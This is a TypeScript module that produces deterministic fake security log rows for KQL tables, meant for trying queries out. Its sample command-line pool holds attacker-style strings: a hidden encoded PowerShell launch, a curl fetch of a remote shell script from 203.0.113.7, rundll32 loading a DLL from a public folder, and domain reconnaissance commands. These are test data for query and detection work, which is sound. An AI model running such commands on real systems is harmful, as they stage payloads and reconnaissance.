/**
 * Made-up rows for any table: typed, plausible by the columns' names, from small pools so that joins and groups find something, and the
 * same for the same table and seed. For trying queries out; nothing in them is anybody's.
 */
import { createHash } from 'node:crypto';
import type { Column } from '../kql';
import { hasTimestamp } from './catalogue';
import { OTHER_SPELLINGS } from './moreColumns';

export interface GenerateOptions {
  readonly seed: string;
  /** Rows lie in the day before. */
  readonly end: Date;
}

type Row = Readonly<Record<string, unknown>>;
type Draw = (below: number) => number;

const DAY = 24 * 3600 * 1000;

const HOSTS = ['web01', 'web02', 'db01', 'dc01', 'pc-ann', 'pc-bob', 'build7', 'mail'];
const PEOPLE = ['ann', 'bob', 'carol', 'dave', 'admin', 'svc-backup'];
const INSIDE = ['10.0.0.4', '10.0.0.5', '10.1.2.3', '172.16.4.9', '192.168.1.20'];
const OUTSIDE = ['203.0.113.7', '198.51.100.23', '192.0.2.44', '8.8.8.8', '2001:db8::17'];
const FILES = [
  'powershell.exe',
  'cmd.exe',
  'rundll32.exe',
  'svchost.exe',
  'winword.exe',
  'bash',
  'curl',
  'report.docx',
];
const COMMANDS = [
  'powershell.exe -nop -w hidden -enc SQBFAFgA',
  'cmd.exe /c whoami /all',
  'rundll32.exe C:\\Users\\Public\\a.dll,Start',
  'net user administrator /domain',
  'curl -s http://203.0.113.7/a.sh',
  'svchost.exe -k netsvcs',
];
const EVENT_IDS = [1, 3, 11, 4624, 4625, 4648, 4672, 4688, 4720, 4728, 4769, 5156, 7045];

const one = <T>(draw: Draw, pool: readonly T[]): T => pool[draw(pool.length)] as T;
const from =
  (...pool: readonly string[]) =>
  (draw: Draw): string =>
    one(draw, pool);

/** What a text column holds, by the first pattern that its name matches. */
const TEXTS: readonly (readonly [RegExp, (draw: Draw) => string])[] = [
  [/sha256/i, (draw) => digest('sha256', draw)],
  [/sha1/i, (draw) => digest('sha1', draw)],
  [/md5|hash/i, (draw) => digest('md5', draw)],
  [/command_?line|cmdline/i, (draw) => one(draw, COMMANDS)],
  [/mac(addr|$)/i, (draw) => `00-0D-3A-00-00-0${draw(9)}`],
  [/(dst|dest|remote|target|public|server).*ip|ip.*(dst|dest|remote)/i, (draw) => one(draw, [...OUTSIDE, ...INSIDE])],
  [/ip(v[46])?(_?addr(ess)?)?(_s|$)|ipaddress|clientip|sourceip/i, (draw) => one(draw, [...INSIDE, ...OUTSIDE])],
  [/port(number|_s|_d|$)/i, (draw) => String(one(draw, [22, 53, 80, 443, 445, 3389, 8080, 50_123]))],
  [/useragent/i, from('Mozilla/5.0', 'curl/8.5.0', 'python-requests/2.31', 'Microsoft Office')],
  [
    /url|uri|referr?er/i,
    from('https://www.example.com/a', 'http://203.0.113.7/a.sh', 'https://login.example.net/?u=1'),
  ],
  [/domain|fqdn|dnsquery|dnsname/i, from('example.com', 'bad.example', 'contoso.com', 'login.example.net')],
  [/e?mail|upn|principalname/i, (draw) => `${one(draw, PEOPLE)}@contoso.com`],
  [/sid$/i, (draw) => `S-1-5-21-1-2-3-${500 + draw(9)}`],
  [/(user|account|actor|caller|subject|identity|initiatedby)(name|id)?(_s|$)|username/i, (draw) => one(draw, PEOPLE)],
  [/computer|host|devicename|machine|workstation|dvc$/i, (draw) => `${one(draw, HOSTS)}.contoso.com`],
  [/path|folder|directory/i, (draw) => `C:\\Windows\\System32\\${one(draw, FILES)}`],
  [/file|process|image|application|appname|objectname/i, (draw) => one(draw, FILES)],
  [
    /registry.*key/i,
    from('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'HKCU\\Software\\A'),
  ],
  [
    /(resource|subscription|tenant|correlation|session|object|message|alert|incident|device|request|unique)_?(id|guid)/i,
    guid,
  ],
  [/guid/i, guid],
  [/protocol/i, from('TCP', 'UDP', 'ICMP')],
  [/direction/i, from('Inbound', 'Outbound')],
  [/severity|level|risk/i, from('High', 'Medium', 'Low', 'Informational')],
  [/resulttype|statuscode|errorcode/i, from('0', '50126', '50053', '200', '404')],
  [/result|outcome|status|success/i, from('Success', 'Failure', 'Succeeded', 'Failed')],
  [/action|disposition|decision/i, from('Allow', 'Deny', 'Block', 'Drop')],
  [
    /operation|activity|eventname|eventtype|category/i,
    from('Add member to role', 'Delete', 'Write', 'SignIn', 'Create user'),
  ],
  [/country|location/i, from('US', 'DE', 'BR', 'JP')],
  [/vendor/i, from('Microsoft', 'Palo Alto Networks', 'Cisco', 'Fortinet')],
  [/product/i, from('PAN-OS', 'Windows', 'ASA', 'Fortigate')],
  [/eventdata|xml/i, (draw) => `<EventData><Data Name="User">${one(draw, PEOPLE)}</Data></EventData>`],
  [/properties|parameters|details|json|payload|claims|additional/i, (draw) => JSON.stringify(bag(draw))],
  [
    /message|description|title|name|reason/i,
    from('Suspicious sign-in', 'Failed password for root', 'Policy changed', 'Scan'),
  ],
];

const NUMBERS: readonly (readonly [RegExp, (draw: Draw) => number])[] = [
  [/eventid|event_id/i, (draw) => one(draw, EVENT_IDS)],
  [/port/i, (draw) => one(draw, [22, 53, 80, 443, 445, 3389, 8080, 50_123])],
  [/bytes|size|length/i, (draw) => draw(5_000_000)],
  [/type|code|level|severity/i, (draw) => draw(12)],
  [/.*/, (draw) => draw(1000)],
];

/**
 * @param columns as the service lists them; the platform's are left out.
 * @returns one row after the other.
 */
export function generateRows(table: string, columns: readonly Column[], { seed, end }: GenerateOptions): () => Row {
  const draw = drawFrom(`${table}\n${seed}`);
  const spellings = new Set(OTHER_SPELLINGS.get(table)?.values());
  const filled = columns.filter(
    ({ name }) =>
      !(name === 'Timestamp' && hasTimestamp(table)) &&
      !spellings.has(name) &&
      !/^(?:_|TenantId$|Type$|SourceSystem$)/.test(name),
  );
  return () => {
    const at = end.getTime() - draw(DAY);
    const entries = filled.flatMap((column): [string, unknown][] => {
      if (column.name === 'TimeGenerated') return [[column.name, new Date(at).toISOString()]];
      // One in ten stays empty, as in any log.
      return draw(10) === 0 ? [] : [[column.name, cellOf(column, at, draw)]];
    });
    return Object.fromEntries(entries);
  };
}

function cellOf({ name, type }: Column, at: number, draw: Draw): unknown {
  switch (type) {
    case 'datetime':
      return new Date(at - draw(600_000)).toISOString();
    case 'bool':
      return draw(2) === 0;
    case 'guid':
      return guid(draw);
    case 'dynamic':
      return draw(3) === 0 ? [bag(draw), bag(draw)] : draw(4) === 0 ? [one(draw, PEOPLE), one(draw, HOSTS)] : bag(draw);
    case 'real':
    case 'decimal':
      return draw(100_000) / 100;
    case 'int':
    case 'long':
    case 'timespan':
      return NUMBERS.find(([pattern]) => pattern.test(name))?.[1](draw) ?? 0;
    case 'string':
      return TEXTS.find(([pattern]) => pattern.test(name))?.[1](draw) ?? `${name.toLowerCase()}-${draw(6)}`;
  }
}

function bag(draw: Draw): Row {
  return {
    name: one(draw, PEOPLE),
    displayName: one(draw, HOSTS),
    ipAddress: one(draw, OUTSIDE),
    count: draw(50),
    id: guid(draw),
  };
}

function guid(draw: Draw): string {
  return `00000000-0000-4000-8000-${String(draw(40)).padStart(12, '0')}`;
}

function digest(kind: 'md5' | 'sha1' | 'sha256', draw: Draw): string {
  return createHash(kind)
    .update(String(draw(20)))
    .digest('hex');
}

/** Numbers from 0 to below a limit, always the same ones for the same text (mulberry32). */
function drawFrom(text: string): Draw {
  let state = createHash('sha256').update(text).digest().readUInt32LE(0);
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296) * below);
  };
}
